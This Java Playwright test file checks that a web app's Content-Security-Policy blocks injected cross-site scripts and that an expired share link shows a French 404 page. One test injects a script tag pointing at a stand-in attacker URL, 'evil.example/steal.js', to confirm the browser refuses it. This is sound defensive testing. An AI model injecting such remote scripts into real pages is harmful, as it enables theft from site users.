package app.atelier.journey;

import com.microsoft.playwright.Page;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The Content-Security-Policy at work in Chromium: a script or a connection to another site that found
 * its way into a page is refused (and every other journey fails if the policy refuses anything the
 * application itself needs).
 */
@BrowserTest
class ContentSecurityPolicyJourneyTest extends Journey {

    @Test
    void aScriptFromAnotherSiteIsRefusedAndTheSignInPageStillWorks() {
        accounts.ensureTeam();
        var page = chromium.newPage("fr-FR", 1440, 900);
        try {
            page.navigate(base() + "/login");
            page.locator("input[name=username]").waitFor();

            var ran = page.evaluate("""
                    () => new Promise(done => {
                      document.addEventListener('securitypolicyviolation', event => done(event.violatedDirective), {once: true});
                      const script = document.createElement('script');
                      script.src = 'https://evil.example/steal.js';
                      document.head.appendChild(script);
                    })""");

            assertThat(ran).asString().startsWith("script-src");
            // Chromium also says it on the console, which is how the other journeys would notice
            page.waitForCondition(() -> chromium.takeViolations().stream().anyMatch(said -> said.contains("evil.example")),
                    new Page.WaitForConditionOptions().setTimeout(5000));
        } finally {
            page.context().close();
        }
    }

    @Test
    void aShareLinkThatClosedOpensTheProductsOwnPage() {
        var phone = chromium.newPage("fr-FR", 390, 844);
        try {
            var response = phone.navigate(base() + "/share/" + "z".repeat(43));

            assertThat(response.status()).isEqualTo(404);
            com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat(phone.locator("h1").first())
                    .hasText("Cette page n’est pas disponible");
            Chromium.screenshot(phone, "closed-share-phone");
        } finally {
            phone.context().close();
        }
    }
}
